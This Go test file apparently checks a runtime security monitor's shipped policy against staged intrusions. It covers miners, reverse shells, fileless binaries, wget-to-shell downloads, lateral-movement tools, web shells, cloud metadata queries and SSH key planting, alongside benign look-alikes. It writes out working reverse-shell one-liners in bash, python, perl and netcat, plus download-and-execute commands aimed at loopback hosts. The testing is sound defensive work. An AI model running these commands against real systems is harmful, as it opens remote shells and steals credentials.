package main

import (
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// attack is something that an intruder does, in a folder with copies of
// victims' programs under names of others. script runs as a file, so that only
// what it starts has its words in an argument.
type attack struct {
	name   string
	script string
	told   []string // attack types, in order; nil: it is no attack, or none that can be told
	msg    string   // of the first
	flags  []string
	need   string // a program
	wrap   []string
}

// attacks are what the shipped policy is for, and beside them what looks like
// them and is ordinary.
var attacks = []attack{
	// Miners: by name, option, pool.
	{name: "a miner", script: `./xmrig 0`, told: []string{"cryptoMinerProcess"}, msg: "/xmrig launched and is identified as a crypto miner. Full command: ./xmrig 0"},
	{name: "a miner under another name", script: `./update --donate-level 1 -o 10.0.0.1:80`, told: []string{"cryptoMinerProcess"}},
	{name: "stratum", script: `./update -o stratum+tcp://10.0.0.1:3333 -u x`, told: []string{"cryptoMinerProcess"}},
	{name: "a pool in an argument", script: `./update --url=xmr.nanopool.org:14444`, told: []string{"cryptoMinerProcess"}},
	{name: "a miner by a shell's command", script: `sh -c './update --donate-level=1'`, told: []string{"cryptoMinerProcess", "cryptoMinerProcess"}},
	{name: "no miner", script: `./update --level 1 -o http://10.0.0.1:80 --pool 4`},

	// Reverse shells.
	{name: "bash to a machine", script: `bash -c 'bash -i >& /dev/tcp/127.0.0.1/1 0>&1'`, told: []string{"reverseShell"}, need: "bash",
		msg: "/bash launched and is identified as a reverse shell. Full command: bash -c 'bash -i >& /dev/tcp/127.0.0.1/1 0>&1'"},
	{name: "python to a machine", need: "/usr/bin/python3", told: []string{"reverseShell"},
		script: `/usr/bin/python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`},
	{name: "perl to a machine", need: "perl", told: []string{"reverseShell"},
		script: `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);if(connect(S,sockaddr_in(1,inet_aton("127.0.0.1")))){open(STDIN,">&S");exec("/bin/sh -i");};'`},
	{name: "perl that has run what it reads", need: "perl", told: []string{"reverseShell"},
		script: `perl -MIO::Socket -e '$c=new IO::Socket::INET(PeerAddr,"127.0.0.1:1") or exit; STDIN->fdopen($c,r); system$_ while<>'`},
	{name: "netcat with a shell", script: `busybox nc 127.0.0.1 1 -e /bin/sh`, told: []string{"reverseShell"}, need: "busybox"},
	{name: "netcat by a pipe", script: `mkfifo f; cat f | sh -i 2>&1 | busybox nc 127.0.0.1 1 >f`, told: []string{"lateralMovementProcess"}, need: "busybox"},
	{name: "a connection of perl", need: "perl",
		script: `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(1,inet_aton("127.0.0.1"))) || print "refused\n";'`},

	// Programs without a file, and such as were brought along.
	{name: "in memory", script: `./exec memfd ./prog-a`, told: []string{"filelessProcess"}},
	{name: "deleted", script: `exec 7<prog-a; rm prog-a; /proc/self/fd/7`, told: []string{"filelessProcess"}},
	{name: "dropped", script: `sleep 11; cp prog-a /tmp/$$-dropped; /tmp/$$-dropped; rm /tmp/$$-dropped`, told: []string{"modifiedProcess"}, msg: "A modified executable /tmp/"},
	{name: "a miner dropped", script: `sleep 11; cp update mined; ./mined --donate-level 1`, told: []string{"cryptoMinerProcess"}},
	{name: "a program changed", script: `sleep 11; printf x >>prog-a; ./prog-a`, told: []string{"modifiedProcess"}},
	{name: "packed", script: `(cat prog-a; printf 'UPX!') >packed; chmod +x packed; ./packed`, told: []string{"encryptedBinary"}},
	{name: "written by the entry point", script: `cp prog-a mine; ./mine; printf '#!/bin/sh\n./mine\n' >s; chmod +x s; ./s`},
	{name: "downloaded into a shell", script: `sh -c 'wget -q -O- http://127.0.0.1:1/x.sh | sh' || true`, told: []string{"customRule"}, need: "wget",
		msg: " runs what it downloads: sh -c wget -q -O- http://127.0.0.1:1/x.sh | sh"},
	{name: "a shell between two connections", script: `sh -c 'telnet 127.0.0.1 1 | sh | telnet 127.0.0.1 2' 2>/dev/null || true`, told: []string{"customRule"}},
	{name: "what was downloaded is a miner", script: `sh -c 'cat payload | sh'`, told: []string{"cryptoMinerProcess"}},
	{name: "a download that is checked", script: `sh -c 'wget -q -O- http://127.0.0.1:1/x.tgz | sha256sum -c sums' || true`, need: "wget"},

	// Moving on.
	{name: "nmap", script: `./nmap -sS 10.0.0.0/8`, told: []string{"lateralMovementProcess"}},
	{name: "chisel", script: `./chisel client 10.0.0.1 R:socks`, told: []string{"lateralMovementProcess"}},
	{name: "netcat", script: `busybox nc 127.0.0.1 1 || true`, told: []string{"lateralMovementProcess"}, need: "busybox"},
	{name: "netcat that waits for a port", script: `busybox nc -z 127.0.0.1 1 || true; busybox nc -w 1 -zv 127.0.0.1 1 || true`, need: "busybox"},
	{name: "netcat for many ports", script: `busybox nc -z 127.0.0.1 1-3 || true`, told: []string{"lateralMovementProcess"}, need: "busybox"},
	{name: "ssh with a password", script: `./sshpass -p x ./ssh root@10.0.0.1`, told: []string{"lateralMovementProcess"}},
	{name: "ssh and scp", script: `./ssh git@10.0.0.1; ./scp x 10.0.0.1:`}, // git and deployments use them

	// Servers that start what they never do.
	{name: "a web shell", script: `./nginx spawn /bin/sh -c id`, told: []string{"webShell"}},
	{name: "a web shell further down", script: `./php-fpm8.2 spawn ./exec spawn /bin/sh -c id`, told: []string{"webShell"}},
	{name: "a database with a command", script: `./postgres spawn /bin/sh -c 'locale -a; id'`, told: []string{"webShell"}},
	{name: "a server that installs", script: `./redis-server spawn ./apt-get`, told: []string{"unexpectedProcess"}},
	{name: "initdb", script: `./postgres spawn /bin/sh -c 'locale -a'`},
	{name: "PHP's mail", script: `./php-fpm8.2 spawn /bin/sh -c '/usr/sbin/sendmail -t -i' || true`},

	// The cloud and the host. In a network without a way out nothing is reached.
	{name: "metadata by wget", script: `wget -q -T 1 -t 1 -O- http://169.254.169.254/latest/meta-data/ || true`, told: []string{"customRule"}, need: "wget", wrap: ownNetwork,
		msg: "wget asked the cloud's metadata service (IP: 169.254.169.254)"},
	{name: "a task's credentials by bash", script: `echo ': </dev/tcp/169.254.170.2/80' >b; bash b || true`, told: []string{"customRule"}, need: "bash", wrap: ownNetwork},
	{name: "metadata by an application", script: `./net connect 169.254.169.254 80`, wrap: ownNetwork},
	{name: "the engine's socket", script: `./unix plain $PWD/docker.sock`, told: []string{"explicitlyDeniedUnixSocket"}},
	{name: "another socket", script: `./unix plain $PWD/app.sock`},
	{name: "a pool", script: `./ask connected 127.0.0.1 xmr.2miners.com >answer || true`, told: []string{"cryptoMinerPool"}, wrap: ownNetwork},

	// With a look at files.
	{name: "a key to log in", script: `mkdir .ssh; echo ssh-ed25519 x >.ssh/authorized_keys`, told: []string{"sshAccess"}, flags: monitoring},
	{name: "keys moved to where they count", script: `mkdir k; echo date >k/rc; mv k .ssh`, told: []string{"sshAccess"}, flags: monitoring},
	{name: "files without a look", script: `mkdir .ssh; echo ssh-ed25519 x >.ssh/authorized_keys; ./prog-a`},
	{name: "ordinary files", script: `mkdir d; echo x >d/a; mv d/a d/b; rm d/b; rmdir d; cp prog-a d; ./d`, flags: monitoring},
}

// TestAttacks runs each under the shipped policy, with nothing else set up: it
// prevents nothing and tells of just what there is to tell.
func TestAttacks(t *testing.T) {
	t.Parallel()
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			t.Parallel()
			if a.need != "" {
				needTool(t, a.need)
			}
			r := run{flags: a.flags, wrap: a.wrap}
			if a.wrap != nil {
				needRoot(t)
				needTool(t, "ip")
			}
			r.dir = stage(t, a.script)
			got := r.protected(t, "sh", "script")
			var told []string
			for _, rec := range got.audits() {
				told = append(told, rec.AttackType)
				if rec.Effect != "alert" || rec.RuleName != "default" || rec.Refused {
					t.Errorf("not an alert of the shipped policy: %+v", rec)
				}
			}
			if !slices.Equal(told, a.told) {
				t.Errorf("told %q, want %q: %+v\n%s", told, a.told, got.audits(), got.err)
			}
			if len(told) > 0 && !strings.Contains(got.audits()[0].Msg, a.msg) {
				t.Errorf("it says %q, want %q", got.audits()[0].Msg, a.msg)
			}
			if got.says("--file-monitoring") {
				t.Errorf("it speaks of what nobody asked for: %+v", got.records)
			}
			r.dir, r.wrap = stage(t, a.script), nil
			if native := r.native(t, append(slices.Clone(a.wrap), "sh", "script")...); native.status != got.status || !strings.Contains(a.script, "$$") && native.out != got.out {
				t.Errorf("status %d and %q, alone %d and %q", got.status, got.out, native.status, native.out)
			}
		})
	}
}

// stage makes a folder with a script and with what attacks use, as of an image.
func stage(t *testing.T, script string) string {
	t.Helper()
	dir := workDir(t, 0)
	for name, from := range map[string]string{
		"exec": "exec", "nginx": "exec", "php-fpm8.2": "exec", "postgres": "exec", "redis-server": "exec", "net": "net", "unix": "unix", "ask": "ask",
		"prog-a": "prog-a", "xmrig": "prog-a", "update": "prog-a", "nmap": "prog-a", "chisel": "prog-a", "sshpass": "prog-a", "ssh": "prog-a", "scp": "prog-a", "apt-get": "prog-a",
	} {
		data, err := os.ReadFile(victim(from))
		if err == nil {
			err = os.WriteFile(filepath.Join(dir, name), data, 0o755)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	for name, text := range map[string]string{"script": script + "\n", "payload": "./update -o stratum+tcp://10.0.0.1:3333\n"} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for _, name := range []string{"docker.sock", "app.sock"} {
		l, err := net.Listen("unix", filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { l.Close() })
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				c.Close()
			}
		}()
	}
	return dir
}
